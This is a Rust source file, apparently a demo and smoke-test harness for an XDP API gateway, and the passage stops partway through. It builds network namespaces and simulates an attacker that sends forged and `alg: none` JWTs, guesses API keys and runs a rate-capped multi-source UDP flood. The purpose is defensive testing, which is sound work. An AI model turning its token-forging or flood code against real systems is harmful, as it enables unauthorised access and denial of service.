//! `cargo xtask demo`: the gateway's whole story, end to end, in network namespaces.
//!
//! ```text
//!  netns gwdemo-<pid>-client          netns gwdemo-<pid>-attacker
//!    198.18.0.10                        198.18.0.66, flood sources 198.18.0.100-107
//!            \                          /
//!  netns gwdemo-<pid>-lan: a bridge, the switch between them and the gateway
//!                          |
//!  netns gwdemo-<pid>-gw:  198.18.0.1 on gwd<pid>g, XDP attached   `gateway run`
//!                          198.18.1.1
//!                          |
//!  netns gwdemo-<pid>-up:  198.18.1.2: `xtask demo-upstream` a (:9001) and b (:9002)
//! ```
//!
//! The gateway runs `examples/gateway.toml`. The demo's copy, in its temporary directory, sets
//! only what differs on this machine and this run: `xdp.interface`, `xdp.pin = false` (nothing
//! outlives the demo), `upstreams.api.targets` (the upstream namespace; ports and weights as in
//! the example), `state.dir` and `admin.socket`. The key files the example names are made next
//! to the copy (an RSA key pair for the JWT provider, of which the gateway gets the public half,
//! and an API key, of which it gets the SHA-256), and the audit log, on the daemon's stdout as
//! the example has it, is kept in `audit.log`.
//!
//! Then, each step with a headline, and each checked (the demo fails with the reason when one
//! does not happen as told, so it doubles as a smoke test):
//!
//! 1. the client's authorised requests (RS256 JWT, API key) are served by both upstreams;
//! 2. the attacker's unauthorised ones (no credentials, forged, unsigned, expired, wrong scope,
//!    unknown key) get 401 or 403;
//! 3. its malicious ones (SQL injection, XSS, encoded traversal, command injection in JSON,
//!    overlong UTF-8, a Log4Shell lookup), even with a valid token, get 403 from inspection;
//! 4. it guesses API keys until the auto-ban rule fires; XDP then drops its packets (a connection
//!    attempt times out), `gateway block list` shows the entry, the client is still served;
//! 5. a 3-second UDP flood from the banned address and 8 sources above a per-source rate limit
//!    set with the CLI, while the client keeps being served;
//!
//! and a summary: requests per class as the clients saw them, the XDP counters, audit log
//! excerpts and metric lines from the admin listener.
//!
//! Everything it creates (processes, namespaces and with them the veths, the bridge and the XDP
//! attachment, the temporary directory) is recorded before it is made and removed on every way
//! out: success, error, panic, Ctrl-C and SIGTERM. Processes it starts also get SIGTERM from the
//! kernel if the demo is killed outright, and the next run removes the namespaces and
//! directories of runs whose process is gone.

mod config;
mod http;
mod net;
mod report;

use std::{
    collections::BTreeMap,
    fs::{self, DirBuilder, File},
    io::ErrorKind,
    net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket},
    os::unix::fs::DirBuilderExt as _,
    path::PathBuf,
    process::{Child, Command, Stdio},
    sync::{Arc, Mutex, MutexGuard, PoisonError},
    thread,
    time::{Duration, Instant, SystemTime, UNIX_EPOCH},
};

use anyhow::{bail, ensure, Context as _, Result};
use clap::Args;
use serde_json::{json, Value};

use self::{
    config::{Example, Override},
    http::{Outcome, Request},
    report::Tally,
};
use crate::{
    jwt, setup,
    util::{self, describe, exec, output, toml_string},
};

/// The LAN: the gateway, the client, the attacker and the attacker's flood sources.
const GATEWAY: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 1);
const CLIENT: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 10);
const ATTACKER: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 66);
const FLOOD_SOURCES: std::ops::RangeInclusive<u8> = 100..=107;
/// A network that holds the flood sources but neither the client nor the attacker.
const FLOOD_NET: &str = "198.18.0.96/28";
/// The link between the gateway and the upstream services.
const GATEWAY_UP: Ipv4Addr = Ipv4Addr::new(198, 18, 1, 1);
const UPSTREAM: Ipv4Addr = Ipv4Addr::new(198, 18, 1, 2);
/// The upstream services' names, in the order of the example's targets.
const UPSTREAM_NAMES: [&str; 2] = ["a", "b"];

/// The flood: UDP to the discard port (nothing listens; XDP sees every packet on its way in),
/// this many packets per second in all, for this long, against this per-source limit. The
/// client sends about 6 packets per request, 10 requests a second: far below the limit.
const FLOOD_PORT: u16 = 9;
const FLOOD_PPS: u32 = 45_000;
const FLOOD_TIME: Duration = Duration::from_secs(3);
const FLOOD_LIMIT_PPS: &str = "500";
const FLOOD_LIMIT_BURST: &str = "1000";
const CLIENT_PAUSE: Duration = Duration::from_millis(100);
/// Share of the client's requests that must succeed during the flood.
const MIN_SERVED_IN_FLOOD: f64 = 0.95;

/// Upper bounds for the hidden sender, whatever it is asked for.
const MAX_SEND_COUNT: u32 = 1_000_000;
const MAX_SEND_TIME: Duration = Duration::from_secs(10);
/// The hidden upstream exits after this long, should nothing else stop it.
const UPSTREAM_LIFETIME: Duration = Duration::from_secs(600);

const STARTUP_TIMEOUT: Duration = Duration::from_secs(15);
const STOP_TIMEOUT: Duration = Duration::from_secs(5);
/// How long the ban may take to show, and how many guesses the attacker gets at most.
const BAN_TIMEOUT: Duration = Duration::from_secs(5);
const MAX_GUESSES: u64 = 100;

#[derive(Args, Debug)]
pub struct Options {
    /// Run this gateway binary instead of building target/release/gateway.
    #[arg(long, value_name = "PATH")]
    pub gateway_bin: Option<PathBuf>,
}

/// `cargo xtask demo-send`: UDP datagrams from one or more sources, in turn.
#[derive(Args, Debug)]
pub struct SendOptions {
    /// Source addresses to bind (addresses of this network namespace); datagrams go out from
    /// each in turn.
    #[arg(long, required = true)]
    pub from: Vec<IpAddr>,
    /// Destination address and port.
    #[arg(long)]
    pub to: SocketAddr,
    /// Number of datagrams in all.
    #[arg(long, default_value_t = 1,
          value_parser = clap::value_parser!(u32).range(1..=i64::from(MAX_SEND_COUNT)))]
    pub count: u32,
    /// Datagrams per second in all; 0: as fast as they go.
    #[arg(long, default_value_t = 0)]
    pub pps: u32,
    /// Stop after this many seconds at most (never more than 10).
    #[arg(long, default_value_t = 10.0)]
    pub seconds: f64,
}

/// `cargo xtask demo-upstream`: the demo's upstream service (see `http::serve`).
#[derive(Args, Debug)]
pub struct UpstreamOptions {
    #[arg(long)]
    pub listen: SocketAddr,
    /// The name it answers with.
    #[arg(long)]
    pub name: String,
}

pub fn run(opts: Options) -> Result<()> {
    util::require_root(
        "cargo xtask demo",
        "it creates network namespaces and attaches an XDP program",
    )?;
    let gateway_bin = match opts.gateway_bin {
        Some(bin) => {
            fs::canonicalize(&bin).with_context(|| format!("finding {}", bin.display()))?
        }
        None => {
            setup::run()?;
            util::build_gateway(true)?;
            util::gateway_release_bin()
        }
    };
    let example_path = util::workspace_root().join("examples/gateway.toml");
    let example = fs::read_to_string(&example_path)
        .with_context(|| format!("reading {}", example_path.display()))
        .and_then(|text| Example::parse(&text))
        .with_context(|| format!("{}", example_path.display()))?;
    remove_stale_runs();

    let started = Instant::now();
    let lab = Arc::new(Lab::new(gateway_bin)?);
    let _cleanup = CleanupOnDrop(lab.clone());
    let on_signal = lab.clone();
    // Ctrl-C, SIGTERM and SIGHUP (the `termination` feature).
    ctrlc::set_handler(move || {
        eprintln!("\ninterrupted: cleaning up");
        on_signal.cleanup();
        std::process::exit(130);
    })
    .context("installing the signal handler")?;

    lab.create_network()?;
    let keys = lab.make_keys(&example)?;
    lab.write_config(&example)?;
    lab.start_upstreams(&example)?;
    lab.start_gateway(&example)?;
    let mut story = Story::new(&lab, example, keys);
    let told = (|| {
        story.authorised()?;
        story.unauthorised()?;
        story.malicious()?;
        story.ban()?;
        story.flood()?;
        story.summary()
    })();
    if let Err(error) = told {
        // What the daemon said may explain it.
        eprintln!("{}", lab.log_tail());
        return Err(error.context("the story did not happen as told"));
    }
    println!(
        "\ndemo finished in {:.0} s: every step happened as told; cleaning up",
        started.elapsed().as_secs_f64()
    );
    Ok(())
}

/// The hidden sender, run by the demo inside the attacker namespace.
pub fn send(opts: SendOptions) -> Result<()> {
    let sockets = opts
        .from
        .iter()
        .map(|from| {
            UdpSocket::bind(SocketAddr::new(*from, 0))
                .with_context(|| format!("binding a UDP socket to {from}"))
        })
        .collect::<Result<Vec<_>>>()?;
    let payload = b"gateway xdp demo";
    let started = Instant::now();
    let deadline = started + MAX_SEND_TIME.min(Duration::from_secs_f64(opts.seconds.max(0.0)));
    let (mut sent, mut refused) = (0u32, 0u32);
    while sent + refused < opts.count && Instant::now() < deadline {
        let socket = &sockets[(sent + refused) as usize % sockets.len()];
        match socket.send_to(payload, opts.to) {
            Ok(_) => sent += 1,
            // The local queue was full: that datagram never left, which is the flood's problem.
            Err(e)
                if e.kind() == ErrorKind::WouldBlock || e.raw_os_error() == Some(libc::ENOBUFS) =>
            {
                refused += 1
            }
            Err(e) => {
                return Err(e).with_context(|| format!("sending to {}", opts.to));
            }
        }
        if opts.pps > 0 && (sent + refused) % 64 == 0 {
            let due =
                started + Duration::from_secs_f64(f64::from(sent + refused) / f64::from(opts.pps));
            if let Some(ahead) = due.checked_duration_since(Instant::now()) {
                thread::sleep(ahead);
            }
        }
    }
    let seconds = started.elapsed().as_secs_f64();
    println!(
        "   sent {sent} UDP datagrams to {} in {seconds:.1} s ({:.0}/s) from {} source(s){}",
        opts.to,
        f64::from(sent) / seconds.max(1e-3),
        sockets.len(),
        if refused > 0 {
            format!("; {refused} more did not fit the local queue")
        } else {
            String::new()
        }
    );
    Ok(())
}

/// The hidden upstream service, run by the demo inside the upstream namespace.
pub fn upstream(opts: UpstreamOptions) -> Result<()> {
    let listener =
        TcpListener::bind(opts.listen).with_context(|| format!("binding {}", opts.listen))?;
    thread::spawn(|| {
        thread::sleep(UPSTREAM_LIFETIME);
        std::process::exit(0);
    });
    http::serve(listener, &opts.name);
    Ok(())
}

/// Removes the namespaces and directories of earlier runs whose process is gone (a crash, a
/// SIGKILL). Their processes got SIGTERM when the run died; any still running are named.
fn remove_stale_runs() {
    let names = fs::read_dir("/run/netns")
        .into_iter()
        .flatten()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned());
    for ns in names.filter(|n| net::is_stale(n)) {
        println!("removing namespace {ns}, left by a demo run that is gone");
        if let Ok(pids) = output(Command::new("ip").args(["netns", "pids", &ns])) {
            let pids: Vec<&str> = pids.split_whitespace().collect();
            if !pids.is_empty() {
                eprintln!(
                    "warning: processes {} still run in {ns}, which lives on until they exit",
                    pids.join(" ")
                );
            }
        }
        if let Err(error) = exec(Command::new("ip").args(["netns", "del", &ns])) {
            eprintln!("warning: {error:#}");
        }
    }
    let tmp = std::env::temp_dir();
    let dirs = fs::read_dir(&tmp)
        .into_iter()
        .flatten()
        .flatten()
        .filter(|e| e.file_type().is_ok_and(|t| t.is_dir()))
        .map(|e| e.file_name().to_string_lossy().into_owned());
    // `gwdemo-<pid>` exactly: the namespaces' names go on with a role.
    for dir in dirs.filter(|d| net::is_stale(d) && d.matches('-').count() == 1) {
        let path = tmp.join(&dir);
        println!(
            "removing {}, left by a demo run that is gone",
            path.display()
        );
        if let Err(error) = fs::remove_dir_all(&path) {
            eprintln!("warning: removing {}: {error}", path.display());
        }
    }
}

/// The namespaces, files and processes of one demo run.
struct Lab {
    ns: Namespaces,
    /// The gateway's interface on the LAN, where XDP attaches.
    gateway_if: String,
    pid: u32,
    dir: PathBuf,
    gateway_bin: PathBuf,
    /// This binary, for `demo-upstream` and `demo-send` inside namespaces.
    xtask_bin: PathBuf,
    /// What exists now and must go; shared with the signal handler.
    live: Mutex<Live>,
}

struct Namespaces {
    client: String,
    attacker: String,
    lan: String,
    gateway: String,
    upstream: String,
}

/// Every resource is recorded here, under the lock, as it is created: the signal handler's
/// cleanup waits for a creation under way and then sees it.
#[derive(Default)]
struct Live {
    /// Name and process, in the order started.
    children: Vec<(String, Child)>,
    netns: Vec<String>,
    dir: Option<PathBuf>,
}

struct CleanupOnDrop(Arc<Lab>);

impl Drop for CleanupOnDrop {
    fn drop(&mut self) {
        self.0.cleanup();
    }
}

/// The credentials of the story, made at run time.
struct Keys {
    /// An RS256 token of the example's issuer and audience for `alice`, with the route's scopes.
    valid: String,
    expired: String,
    /// Valid, but with a scope the route does not ask for.
    wrong_scope: String,
    /// The valid token with its signature changed.
    forged: String,
    /// `alg: none` and no signature.
    unsigned: String,
    /// The API key of `partner-a`.
    api_key: String,
}

impl Lab {
    fn new(gateway_bin: PathBuf) -> Result<Self> {
        let pid = std::process::id();
        let ns = |role: &str| format!("{}{pid}-{role}", net::PREFIX);
        Ok(Lab {
            ns: Namespaces {
                client: ns("client"),
                attacker: ns("attacker"),
                lan: ns("lan"),
                gateway: ns("gw"),
                upstream: ns("up"),
            },
            // Interface names must fit in 15 bytes: "gwd" + at most 7 pid digits + 2.
            gateway_if: format!("gwd{pid}g"),
            pid,
            dir: std::env::temp_dir().join(format!("{}{pid}", net::PREFIX)),
            gateway_bin,
            xtask_bin: std::env::current_exe().context("finding the xtask binary")?,
            live: Mutex::default(),
        })
    }

    fn config(&self) -> PathBuf {
        self.dir.join("gateway.toml")
    }

    fn socket(&self) -> PathBuf {
        self.dir.join("admin.sock")
    }

    fn log(&self) -> PathBuf {
        self.dir.join("gateway.log")
    }

    fn audit(&self) -> PathBuf {
        self.dir.join("audit.log")
    }

    fn iface(&self, role: &str) -> String {
        format!("gwd{}{role}", self.pid)
    }

    fn live(&self) -> MutexGuard<'_, Live> {
        // A panic elsewhere must not stop the cleanup.
        self.live.lock().unwrap_or_else(PoisonError::into_inner)
    }

    fn create_network(&self) -> Result<()> {
        let Namespaces {
            client,
            attacker,
            lan,
            gateway,
            upstream,
        } = &self.ns;
        headline("network: five namespaces, joined by veth pairs and a bridge");
        {
            let mut live = self.live();
            for ns in [client, attacker, lan, gateway, upstream] {
                live.netns.push(ns.clone());
                if net::netns_path(ns).exists() {
                    // Left by an earlier run whose pid we now have.
                    ip(&["netns", "del", ns])?;
                }
                ip(&["netns", "add", ns])?;
                // IPv4 only: no IPv6 router solicitations or DAD in the counters.
                exec(
                    Command::new("ip")
                        .args(["netns", "exec", ns, "sysctl", "-q", "-w"])
                        .args([
                            "net.ipv6.conf.all.disable_ipv6=1",
                            "net.ipv6.conf.default.disable_ipv6=1",
                        ]),
                )?;
                ip(&["-n", ns, "link", "set", "lo", "up"])?;
            }
        }
        let bridge = self.iface("br");
        ip(&["-n", lan, "link", "add", &bridge, "type", "bridge"])?;
        ip(&["-n", lan, "link", "set", &bridge, "up"])?;
        // (namespace, interface, addresses) at each end of a veth pair; the LAN ends are bridged.
        let pairs: [(&str, String, Vec<String>, &str, String); 4] = [
            (
                client,
                self.iface("c"),
                vec![format!("{CLIENT}/24")],
                lan,
                self.iface("lc"),
            ),
            (
                attacker,
                self.iface("a"),
                std::iter::once(format!("{ATTACKER}/24"))
                    .chain(FLOOD_SOURCES.map(|d| format!("198.18.0.{d}/24")))
                    .collect(),
                lan,
                self.iface("la"),
            ),
            (
                gateway,
                self.gateway_if.clone(),
                vec![format!("{GATEWAY}/24")],
                lan,
                self.iface("lg"),
            ),
            (
                upstream,
                self.iface("v"),
                vec![format!("{UPSTREAM}/24")],
                gateway,
                self.iface("u"),
            ),
        ];
        for (ns, dev, addrs, peer_ns, peer) in &pairs {
            ip(&[
                "link", "add", dev, "netns", ns, "type", "veth", "peer", "name", peer, "netns",
                peer_ns,
            ])?;
            for addr in addrs {
                ip(&["-n", ns, "addr", "add", addr, "dev", dev])?;
            }
            ip(&["-n", ns, "link", "set", dev, "up"])?;
            if *peer_ns == lan {
                ip(&["-n", lan, "link", "set", peer, "master", &bridge])?;
            }
            ip(&["-n", peer_ns, "link", "set", peer, "up"])?;
        }
        ip(&[
            "-n",
            gateway,
            "addr",
            "add",
            &format!("{GATEWAY_UP}/24"),
            "dev",
            &self.iface("u"),
        ])?;
        let (first, last) = (FLOOD_SOURCES.start(), FLOOD_SOURCES.end());
        for (ns, what) in [
            (client, format!("client    {CLIENT}")),
            (
                attacker,
                format!("attacker  {ATTACKER}, flood sources 198.18.0.{first}-{last}"),
            ),
            (
                lan,
                "switch    a bridge between the client, the attacker and the gateway".into(),
            ),
            (
                gateway,
                format!(
                    "gateway   {GATEWAY} on {} (XDP), {GATEWAY_UP} to the upstreams",
                    self.gateway_if
                ),
            ),
        ] {
            println!("   {ns:<24} {what}");
        }
        println!("   {upstream:<24} upstream  {UPSTREAM}: services a and b");
        Ok(())
    }

    /// The key files the example names, next to the copy, and the tokens of the story.
    fn make_keys(&self, example: &Example) -> Result<Keys> {
        headline("keys: the demo plays the identity provider and the partner");
        self.make_dir()?;
        let public = self.dir.join(&example.jwt_key_file);
        let keys_file = self.dir.join(&example.api_keys_file);
        for file in [&public, &keys_file] {
            if let Some(parent) = file.parent() {
                fs::create_dir_all(parent)
                    .with_context(|| format!("creating {}", parent.display()))?;
            }
        }
        // The private key stays outside the directory the gateway reads keys from.
        let private = self.dir.join("idp-private.pem");
        output(
            Command::new("openssl")
                .args([
                    "genpkey",
                    "-algorithm",
                    "RSA",
                    "-pkeyopt",
                    "rsa_keygen_bits:2048",
                    "-out",
                ])
                .arg(&private),
        )?;
        output(
            Command::new("openssl")
                .args(["pkey", "-pubout", "-in"])
                .arg(&private)
                .arg("-out")
                .arg(&public),
        )?;
        println!(
            "   an RSA-2048 key pair (openssl genpkey); the gateway gets the public half: {}",
            example.jwt_key_file.display()
        );
        let now = SystemTime::now().duration_since(UNIX_EPOCH)?.as_secs();
        let claims = |scope: &str, iat: u64, exp: u64| {
            json!({
                "iss": example.issuer, "aud": example.audience, "sub": "alice",
                "scope": scope, "iat": iat, "exp": exp,
            })
            .to_string()
        };
        let scopes = example.scopes.join(" ");
        let header = r#"{"alg":"RS256","typ":"JWT"}"#;
        let private_arg = private.to_string_lossy().into_owned();
        let rs256 = |claims: &str| jwt::sign(header, claims, &["-sign", &private_arg]);
        let valid = rs256(&claims(&scopes, now, now + 600))?;
        let expired = rs256(&claims(&scopes, now - 7200, now - 3600))?;
        let wrong_scope = rs256(&claims("profile:read", now, now + 600))?;
        // Another signature of the right length: the valid one, reversed.
        let (signed, signature) = valid.rsplit_once('.').context("a JWT has three parts")?;
        let forged = format!("{signed}.{}", signature.chars().rev().collect::<String>());
        let unsigned = format!(
            "{}.{}.",
            jwt::b64url(br#"{"alg":"none","typ":"JWT"}"#),
            jwt::b64url(claims(&scopes, now, now + 600).as_bytes())
        );
        println!(
            "   tokens signed with the private half: iss {}, aud {}, sub alice, scope {scopes:?}",
            example.issuer, example.audience
        );

        let hashed = output(Command::new(&self.gateway_bin).args(["hash-key", "--generate"]))?;
        let field = |name: &str| {
            hashed
                .lines()
                .find_map(|l| l.strip_prefix(name))
                .map(|v| v.trim().to_owned())
                .with_context(|| format!("`gateway hash-key --generate` printed no {name}"))
        };
        let (api_key, sha256) = (field("key:")?, field("sha256:")?);
        let scopes_toml: Vec<String> = example.scopes.iter().map(|s| toml_string(s)).collect();
        fs::write(
            &keys_file,
            format!(
                "# Written by `cargo xtask demo`: the partners' API keys, as SHA-256.\n\
                 [[keys]]\nid = \"partner-a\"\nsha256 = \"{sha256}\"\nscopes = [{}]\n",
                scopes_toml.join(", ")
            ),
        )
        .with_context(|| format!("writing {}", keys_file.display()))?;
        println!(
            "   an API key for partner-a (gateway hash-key --generate); the gateway gets its \
             SHA-256: {}",
            example.api_keys_file.display()
        );
        Ok(Keys {
            valid,
            expired,
            wrong_scope,
            forged,
            unsigned,
            api_key,
        })
    }

    fn make_dir(&self) -> Result<()> {
        let mut live = self.live();
        if live.dir.is_some() {
            return Ok(());
        }
        live.dir = Some(self.dir.clone());
        if self.dir.exists() {
            // Left by an earlier run whose pid we now have.
            fs::remove_dir_all(&self.dir)
                .with_context(|| format!("removing stale {}", self.dir.display()))?;
        }
        DirBuilder::new()
            .mode(0o700)
            .create(&self.dir)
            .with_context(|| format!("creating {}", self.dir.display()))
    }

    fn write_config(&self, example: &Example) -> Result<()> {
        headline("config: examples/gateway.toml, with what differs on this machine");
        let path = |p: PathBuf| toml_string(&p.to_string_lossy());
        let overrides = [
            (
                "xdp",
                "interface",
                toml_string(&self.gateway_if),
                "the gateway's veth",
            ),
            ("xdp", "pin", "false".into(), "nothing outlives the demo"),
            (
                "upstreams.api",
                "targets",
                config::targets_value(&UPSTREAM.to_string(), &example.targets),
                "in the upstream namespace",
            ),
            (
                "state",
                "dir",
                path(self.dir.join("state")),
                "this run's directory",
            ),
            (
                "admin",
                "socket",
                path(self.socket()),
                "this run's directory",
            ),
        ]
        .map(|(table, key, value, why)| Override {
            table: table.into(),
            key,
            value,
            why,
        });
        let text = config::machine_copy(&example.text, &overrides)?;
        let keys: Vec<String> = overrides
            .iter()
            .map(|o| format!("{}.{}", o.table, o.key))
            .collect();
        let text = format!(
            "# examples/gateway.toml as `cargo xtask demo` runs it, with {} set for this run.\n{text}",
            keys.join(", ")
        );
        fs::write(self.config(), text)
            .with_context(|| format!("writing {}", self.config().display()))?;
        for o in &overrides {
            println!("   {}.{} = {}   # {}", o.table, o.key, o.value, o.why);
        }
        println!(
            "   everything else as in the example: the proxy on port {} and metrics on {} in the \
             gateway's namespace,\n   the audit log on stdout (kept in audit.log), the key \
             files next to the copy",
            example.proxy_port, example.metrics
        );
        self.gateway(&["check-config", &self.config().to_string_lossy()])?;
        Ok(())
    }

    /// Starts a process in `ns`, recorded under the lock as it starts.
    fn spawn(&self, name: &str, mut cmd: Command) -> Result<()> {
        let mut live = self.live();
        let child = cmd
            .spawn()
            .with_context(|| format!("could not start `{}`", describe(&cmd)))?;
        live.children.push((name.to_owned(), child));
        Ok(())
    }

    fn start_upstreams(&self, example: &Example) -> Result<()> {
        headline("upstreams: two services in the upstream namespace");
        for (target, name) in example.targets.iter().zip(UPSTREAM_NAMES) {
            let listen = SocketAddr::new(UPSTREAM.into(), target.port);
            let mut cmd = net::command_in(&self.ns.upstream, &self.xtask_bin);
            cmd.arg("demo-upstream")
                .arg("--listen")
                .arg(listen.to_string())
                .args(["--name", name])
                .stdin(Stdio::null());
            println!(
                "   {name}: {listen}, weight {} (answers with its name)",
                target.weight
            );
            self.spawn(&format!("upstream {name}"), cmd)?;
        }
        // Reachable from the gateway's namespace, as the gateway will reach them.
        for target in &example.targets {
            let addr = SocketAddr::new(UPSTREAM.into(), target.port);
            let deadline = Instant::now() + STARTUP_TIMEOUT;
            while net::run_in(&self.ns.gateway, || {
                TcpStream::connect_timeout(&addr, Duration::from_millis(200))
            })?
            .is_err()
            {
                self.check_children()?;
                ensure!(
                    Instant::now() < deadline,
                    "the upstream service on {addr} did not listen within {} s",
                    STARTUP_TIMEOUT.as_secs()
                );
                thread::sleep(Duration::from_millis(50));
            }
        }
        Ok(())
    }

    fn start_gateway(&self, example: &Example) -> Result<()> {
        let log = File::create(self.log())
            .with_context(|| format!("creating {}", self.log().display()))?;
        let audit = File::create(self.audit())
            .with_context(|| format!("creating {}", self.audit().display()))?;
        let mut cmd = net::command_in(&self.ns.gateway, &self.gateway_bin);
        cmd.arg("run")
            .arg("--config")
            .arg(self.config())
            // The log goes to a file and is then shown indented: no colour codes.
            .env("NO_COLOR", "1")
            .stdin(Stdio::null())
            .stdout(audit)
            .stderr(log);
        headline(&format!("start the gateway: {}", describe(&cmd)));
        self.spawn("the gateway", cmd)?;
        self.wait_ready(example)?;
        println!("   its log so far ({}):", self.log().display());
        for line in fs::read_to_string(self.log()).unwrap_or_default().lines() {
            println!("   | {line}");
        }
        Ok(())
    }

    /// Waits until the daemon answers on its admin socket and its proxy on the LAN, or fails
    /// with its log.
    fn wait_ready(&self, example: &Example) -> Result<()> {
        let deadline = Instant::now() + STARTUP_TIMEOUT;
        let mut last_error = String::from("the admin socket does not exist yet");
        let health = SocketAddr::new(GATEWAY.into(), example.proxy_port);
        loop {
            self.check_children()?;
            if self.socket().exists() {
                match output(&mut self.cli(&["stats"])) {
                    Ok(_) => {
                        match net::run_in(&self.ns.client, || {
                            http::send(health, &example.host, &Request::get("/healthz"))
                        })? {
                            Outcome::Answer(r) if r.status == 200 => return Ok(()),
                            other => last_error = format!("GET /healthz: {other:?}"),
                        }
                    }
                    Err(error) => last_error = format!("{error:#}"),
                }
            }
            if Instant::now() >= deadline {
                bail!(
                    "the gateway was not ready within {} s: {last_error}{}",
                    STARTUP_TIMEOUT.as_secs(),
                    self.log_tail()
                );
            }
            thread::sleep(Duration::from_millis(100));
        }
    }

    /// Fails when a process the demo started has exited.
    fn check_children(&self) -> Result<()> {
        let mut live = self.live();
        for (name, child) in live.children.iter_mut() {
            if let Some(status) = child.try_wait().context("checking on a child")? {
                let log = if name == "the gateway" {
                    self.log_tail()
                } else {
                    String::new()
                };
                bail!("{name} exited ({status}){log}");
            }
        }
        Ok(())
    }

    fn log_tail(&self) -> String {
        let log = fs::read_to_string(self.log()).unwrap_or_default();
        let lines: Vec<&str> = log.lines().collect();
        let tail = &lines[lines.len().saturating_sub(30)..];
        format!(
            "\n--- gateway log (last {} lines) ---\n{}",
            tail.len(),
            tail.join("\n")
        )
    }

    /// `gateway --socket SOCK ARGS`, with its command line and output shown (indented).
    fn gateway(&self, args: &[&str]) -> Result<String> {
        println!("   $ gateway {}", args.join(" "));
        let out = output(&mut self.cli(args))?;
        for line in out.lines() {
            println!("     {line}");
        }
        Ok(out)
    }

    fn cli(&self, args: &[&str]) -> Command {
        let mut cmd = Command::new(&self.gateway_bin);
        cmd.arg("--socket").arg(self.socket()).args(args);
        cmd
    }

    fn json(&self, args: &[&str]) -> Result<Value> {
        let text = output(&mut self.cli(args))?;
        serde_json::from_str(&text)
            .with_context(|| format!("`gateway {}`: not JSON", args.join(" ")))
    }

    /// The `rule` of the audit line of request `id`, once the audit writer has written it.
    fn audit_rule(&self, id: &str) -> Option<String> {
        for _ in 0..20 {
            let text = fs::read_to_string(self.audit()).unwrap_or_default();
            let line = text
                .lines()
                .filter(|l| l.contains(id))
                .filter_map(|l| serde_json::from_str::<Value>(l).ok())
                .find(|l| l["request_id"] == id);
            if let Some(line) = line {
                return line["rule"].as_str().map(str::to_owned);
            }
            thread::sleep(Duration::from_millis(10));
        }
        None
    }

    /// Packets per XDP verdict.
    fn verdicts(&self) -> Result<BTreeMap<String, u64>> {
        let stats = self.json(&["stats", "--json"])?;
        let verdicts = stats["verdicts"]
            .as_object()
            .context("`gateway stats --json` has no verdicts")?;
        Ok(verdicts
            .iter()
            .map(|(name, v)| (name.clone(), v["packets"].as_u64().unwrap_or(0)))
            .collect())
    }

    /// Stops the processes, deletes the namespaces (and with them the veths, the bridge and
    /// the XDP attachment) and the temporary directory. Safe to call more than once and from the
    /// signal handler; it holds the lock throughout so two callers never interleave.
    fn cleanup(&self) {
        let mut live = self.live();
        while let Some((name, mut child)) = live.children.pop() {
            if let Some(status) = util::stop(&mut child, &name, STOP_TIMEOUT) {
                println!("   {name} stopped ({status})");
            }
        }
        while let Some(ns) = live.netns.pop() {
            if net::netns_path(&ns).exists() {
                if let Err(error) = exec(Command::new("ip").args(["netns", "del", &ns])) {
                    eprintln!("warning: {error:#}");
                }
            }
        }
        if let Some(dir) = live.dir.take() {
            match fs::remove_dir_all(&dir) {
                Ok(()) => {}
                Err(error) if error.kind() == ErrorKind::NotFound => {}
                Err(error) => eprintln!("warning: removing {}: {error}", dir.display()),
            }
        }
    }
}

/// Who sends a request.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Who {
    Client,
    Attacker,
}

/// What a request should get.
#[derive(Clone, Copy, Debug)]
enum Expect {
    /// 200 from an upstream service.
    Served,
    /// This status from the gateway itself.
    Refused(u16),
    /// This status with this refusal code.
    RefusedAs(u16, &'static str),
    /// No connection: XDP drops the SYN.
    Dropped,
}

struct Story<'a> {
    lab: &'a Lab,
    example: Example,
    keys: Keys,
    tally: Tally,
    proxy: SocketAddr,
}

impl<'a> Story<'a> {
    fn new(lab: &'a Lab, example: Example, keys: Keys) -> Self {
        let proxy = SocketAddr::new(GATEWAY.into(), example.proxy_port);
        Story {
            lab,
            example,
            keys,
            tally: Tally::default(),
            proxy,
        }
    }

    fn path(&self, rest: &str) -> String {
        format!("{}{rest}", self.example.path_prefix)
    }

    /// Sends one request, records it under `class` and prints a line for it (unless `quiet`).
    /// The outcome, and whether it was the expected one.
    fn send(
        &mut self,
        who: Who,
        class: &str,
        what: &str,
        request: &Request,
        expect: Expect,
    ) -> Result<(Outcome, bool)> {
        let ns = match who {
            Who::Client => &self.lab.ns.client,
            Who::Attacker => &self.lab.ns.attacker,
        };
        let (proxy, host) = (self.proxy, self.example.host.clone());
        let outcome = net::run_in(ns, || http::send(proxy, &host, request))?;
        self.tally.record(class, &outcome);
        let ok = match (expect, &outcome) {
            (Expect::Served, Outcome::Answer(r)) => r.status == 200 && r.upstream().is_some(),
            (Expect::Refused(status), Outcome::Answer(r)) => r.status == status,
            (Expect::RefusedAs(status, code), Outcome::Answer(r)) => {
                r.status == status && r.error_code().as_deref() == Some(code)
            }
            (Expect::Dropped, Outcome::Failed { connect, .. }) => *connect,
            _ => false,
        };
        if !what.is_empty() {
            let target = format!("{} {}", request.method, request.path);
            // A refusal with the audit log's rule, which says more than the status.
            let rule = match &outcome {
                Outcome::Answer(r) if r.status >= 400 => r
                    .header("x-request-id")
                    .map(str::to_owned)
                    .or_else(|| r.json()["request_id"].as_str().map(str::to_owned))
                    .and_then(|id| self.lab.audit_rule(&id))
                    .map(|rule| format!(" ({rule})"))
                    .unwrap_or_default(),
                _ => String::new(),
            };
            println!(
                "   {what:<34} {target:<44} -> {}{rule}",
                describe_outcome(&outcome)
            );
            if !ok {
                println!("   !! expected {}", describe_expect(expect));
            }
        }
        Ok((outcome, ok))
    }

    fn authorised(&mut self) -> Result<()> {
        headline(&format!(
            "1. authorised requests from the client ({CLIENT}): served by both upstreams"
        ));
        let class = "authorised (client)";
        let mut failed = 0;
        let token = self.keys.valid.clone();
        for n in 1..=5 {
            let r = Request::get(self.path(&format!("/{n}"))).bearer(&token);
            failed += u32::from(
                !self
                    .send(Who::Client, class, "JWT of alice", &r, Expect::Served)?
                    .1,
            );
        }
        let r = Request::post_json(self.path(""), r#"{"item":"book","quantity":1}"#).bearer(&token);
        failed += u32::from(
            !self
                .send(
                    Who::Client,
                    class,
                    "JWT of alice, a JSON order",
